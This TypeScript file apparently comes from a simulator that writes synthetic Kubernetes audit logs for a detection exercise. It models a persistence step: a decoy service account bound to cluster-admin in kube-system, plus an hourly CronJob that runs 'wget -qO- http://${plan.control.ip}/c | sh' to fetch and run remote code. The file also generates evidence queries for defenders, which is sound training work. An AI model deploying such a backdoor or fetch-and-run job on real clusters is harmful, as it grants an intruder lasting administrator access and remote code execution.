import { controllerOf, makePod, type Pod } from '../cluster';
import { makeByController, startPod } from '../happenings';
import type { Scene } from '../scene';
import { HOUR, MINUTE, SECOND, WEEK_END } from '../week';
import { writeAudit, writeEvent } from '../writers';
import type { AttackStep } from './attack-step';
import type { Plan } from './plan';

const NAMESPACE = 'kube-system';
const IMAGE = 'docker.io/library/alpine:3.20';

/** An account with all rights and a job that runs each hour, both called like something of the system. */
export const persistence: AttackStep = {
  name: 'persistence',
  title: 'An account with all rights and an hourly job are left in kube-system',
  techniques: ['T1098.006', 'T1136', 'T1053.007', 'T1036.005'],
  perform(scene, plan) {
    const { start, administrator: caller } = plan;
    const name = scene.cluster.names.decoy;
    const at = start + 120 * MINUTE;
    const binding = {
      kind: 'ClusterRoleBinding',
      apiVersion: 'rbac.authorization.k8s.io/v1',
      metadata: { name },
      subjects: [{ kind: 'ServiceAccount', name, namespace: NAMESPACE }],
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    };
    writeAudit(scene, { at, caller, verb: 'create', resource: 'serviceaccounts', namespace: NAMESPACE, name });
    writeAudit(scene, {
      at: at + 16 * SECOND,
      caller,
      verb: 'create',
      resource: 'clusterrolebindings.rbac.authorization.k8s.io',
      name,
      body: binding,
    });
    writeAudit(scene, {
      at: at + 41 * SECOND,
      caller,
      verb: 'create',
      resource: 'serviceaccounts/token',
      namespace: NAMESPACE,
      name,
    });
    const spec = {
      containers: [{ name, image: IMAGE, command: ['sh', '-c', `wget -qO- http://${plan.control.ip}/c | sh`] }],
      serviceAccountName: name,
      restartPolicy: 'Never',
    };
    const cronJob = {
      kind: 'CronJob',
      apiVersion: 'batch/v1',
      metadata: { name, namespace: NAMESPACE },
      spec: { schedule: '7 * * * *', jobTemplate: { spec: { template: { spec } } } },
    };
    writeAudit(scene, {
      at: at + 90 * SECOND,
      caller,
      verb: 'create',
      resource: 'cronjobs.batch',
      namespace: NAMESPACE,
      name,
      body: cronJob,
    });
    const runs = runHourly(scene, plan, name);
    return {
      touches: [caller.user, `${NAMESPACE}/${name}`, 'cluster-admin'],
      evidence: [
        {
          shows: 'What the administrator of the cluster never does',
          query: `type:audit user:${caller.user} verb:create`,
          count: 4,
        },
        {
          shows: 'All rights for the new account',
          query: `type:audit resource:clusterrolebindings verb:create name:${name}`,
          count: 1,
        },
        {
          shows: 'The job runs',
          query: `type:control-plane resource:cronjobs name:${name} reason:SuccessfulCreate`,
          count: runs,
        },
      ],
    };
  },
};

/** The job's pods of the first three hours. */
function runHourly(scene: Scene, { start }: Plan, name: string): number {
  const { cluster } = scene;
  const first = Math.ceil((start + 122 * MINUTE) / HOUR) * HOUR + 7 * MINUTE;
  const runs = [first, first + HOUR, first + 2 * HOUR];
  for (const at of runs) {
    const job = `${name}-${Math.floor(at / MINUTE)}`;
    writeAudit(scene, {
      at,
      caller: controllerOf(cluster.control, 'cronjob-controller'),
      verb: 'create',
      resource: 'jobs.batch',
      namespace: NAMESPACE,
      name: job,
    });
    writeEvent(scene, {
      at,
      kind: 'CronJob',
      namespace: NAMESPACE,
      name,
      reason: 'SuccessfulCreate',
      message: `Created job ${job}`,
      component: 'cronjob-controller',
    });
    const pod = jobPod(scene, name, job, at);
    makeByController(scene, pod, at + 90_000);
    startPod(scene, pod, at + 100_000, { pull: at === first });
  }
  return runs.length;
}

function jobPod({ cluster, random }: Scene, name: string, job: string, at: number): Pod {
  const node = random.of(cluster.workers);
  const place = {
    name: `${job}-${random.suffix(5)}`,
    node,
    ip: `10.42.${node.number}.${random.between(195, 199)}`,
    image: IMAGE,
  };
  return makePod(
    { name, namespace: NAMESPACE, container: name, identity: 58_113 },
    { ...place, owner: { kind: 'Job', name: job }, from: at, to: WEEK_END },
    random,
  );
}
